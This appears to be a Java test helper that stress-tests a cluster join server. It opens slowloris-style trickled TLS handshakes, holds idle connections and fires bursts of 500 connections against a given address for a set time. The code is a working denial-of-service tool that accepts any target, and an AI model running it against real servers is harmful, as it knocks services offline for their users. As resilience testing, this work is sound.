package io.rancherd.discovery;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;

/**
 * The attacker of {@link JoinServerLoadIT}, run as its own process in a namespace, for a bounded
 * time: {@value #SLOW} clients that trickle a TLS handshake one byte a second, {@value #IDLE}
 * connections that are opened and left idle (reopened when closed), and a burst of {@value #BURST}
 * connections every 3 s.
 *
 * <p>Arguments: the join server's address, its port, seconds to run.
 */
public final class JoinServerAttack {

  static final int SLOW = 16;
  static final int IDLE = 200;
  static final int BURST = 500;
  static final String RUNNING = "attack running";

  private JoinServerAttack() {}

  public static void main(String[] args) throws Exception {
    InetSocketAddress target = new InetSocketAddress(args[0], Integer.parseInt(args[1]));
    long end = System.currentTimeMillis() + Long.parseLong(args[2]) * 1000;
    List<Thread> threads = new ArrayList<>();
    for (int i = 0; i < SLOW; i++) {
      threads.add(start(() -> slow(target, end)));
    }
    threads.add(start(() -> idle(target, end)));
    threads.add(start(() -> bursts(target, end)));
    System.out.println(RUNNING);
    for (Thread thread : threads) {
      thread.join();
    }
  }

  private static Thread start(Runnable task) {
    Thread thread = new Thread(task);
    thread.setDaemon(true);
    thread.start();
    return thread;
  }

  /** A ClientHello's first bytes, one a second, again and again. */
  private static void slow(InetSocketAddress target, long end) {
    byte[] hello = {0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, (byte) 0xfc, 0x03, 0x03};
    while (System.currentTimeMillis() < end) {
      try (Socket socket = connect(target)) {
        OutputStream out = socket.getOutputStream();
        for (int i = 0; System.currentTimeMillis() < end; i++) {
          out.write(hello[i % hello.length]);
          out.flush();
          Thread.sleep(1000);
        }
      } catch (IOException e) {
        pause(100);
      } catch (InterruptedException e) {
        return;
      }
    }
  }

  private static void idle(InetSocketAddress target, long end) {
    List<Socket> open = new ArrayList<>();
    while (System.currentTimeMillis() < end) {
      open.removeIf(Socket::isClosed);
      while (open.size() < IDLE && System.currentTimeMillis() < end) {
        try {
          open.add(connect(target));
        } catch (IOException e) {
          break;
        }
      }
      pause(500);
      // the server closes what it does not serve: reopen some each round
      for (int i = 0; i < open.size(); i += 4) {
        close(open.get(i));
      }
    }
    open.forEach(JoinServerAttack::close);
  }

  private static void bursts(InetSocketAddress target, long end) {
    while (System.currentTimeMillis() < end) {
      List<Socket> burst = new ArrayList<>();
      for (int i = 0; i < BURST; i++) {
        try {
          Socket socket = connect(target);
          socket.getOutputStream().write(0x16);
          burst.add(socket);
        } catch (IOException e) {
          // refused or reset: the next one
        }
      }
      pause(1000);
      burst.forEach(JoinServerAttack::close);
      pause(2000);
    }
  }

  private static Socket connect(InetSocketAddress target) throws IOException {
    Socket socket = new Socket();
    socket.connect(target, 2000);
    return socket;
  }

  private static void close(Socket socket) {
    try {
      socket.close();
    } catch (IOException e) {
      // already gone
    }
  }

  private static void pause(long millis) {
    try {
      Thread.sleep(millis);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }
}
